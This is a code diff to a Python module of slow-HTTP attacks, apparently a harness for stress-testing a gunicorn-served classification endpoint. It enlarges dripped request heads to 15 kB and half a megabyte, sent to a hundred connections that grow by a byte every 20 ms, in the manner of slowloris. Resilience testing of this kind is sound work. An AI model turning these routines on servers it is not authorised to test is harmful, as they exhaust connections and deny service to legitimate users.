@@ -11,9 +11,11 @@ from .attack import PATIENCE, Act, Address, Aim, Harvest
 from .swift import Flood, tally
 
 _HEAD = b"GET / HTTP/1.1\r\nHost: a\r\n"
-_LINE = b"X-Header-Of-Some-Length: " + b"y" * 60 + b"\r\n"
-_START_LINES = 50
-"""A dripped head begins with some kilobytes at once: what it costs to look at it again shows from the first byte on."""
+_LINE = b"X-Header-Of-Some-Length: " + b"y" * 230 + b"\r\n"
+_START = _HEAD + 58 * _LINE
+"""15 kB, near what a head may have: the cost of searching it again shows from the first byte on."""
+_LARGE_START = _HEAD + 62 * (b"X: " + b"y" * 8000 + b"\r\n")
+"""496 kB, near what gunicorn lets 64 header lines have."""
 _LONG_BODY = b"POST /v1/classify HTTP/1.1\r\nHost: a\r\nContent-Length: 200000\r\n\r\n\xff\xd8\xff\xe0"
 _REOPENED = 50
 """A turn opens at most so many connections again."""
@@ -47,10 +49,15 @@ class Drip:
             client.close()
 
 
-def dripped_heads(aim: Aim) -> Act:
-    """A hundred heads that grow by a byte each 20 ms."""
-    drip = Drip(100, _HEAD + _LINE * _START_LINES, tuple(bytes([byte]) for byte in _LINE), 0.02)
-    return lambda harvest: drip.run(aim, harvest)
+def dripped_heads(start: bytes = _START) -> Callable[[Aim], Act]:
+    """An attack of a hundred heads that begin with `start`, and grow by a byte each 20 ms."""
+    drip = Drip(100, start, tuple(bytes([byte]) for byte in _LINE), 0.02)
+    return lambda aim: lambda harvest: drip.run(aim, harvest)
+
+
+def dripped_large_heads(aim: Aim) -> Act:
+    """The same with heads of half a megabyte."""
+    return dripped_heads(_LARGE_START)(aim)
 
 
 def slow_bodies(aim: Aim) -> Act:
@@ -88,7 +95,7 @@ def _opened(address: Address, start: bytes) -> socket.socket:
         client.settimeout(PATIENCE)
     client.connect_ex(address)
     with suppress(OSError):
-        client.send(start)
+        client.sendall(start)
     client.settimeout(0)
     return client
 
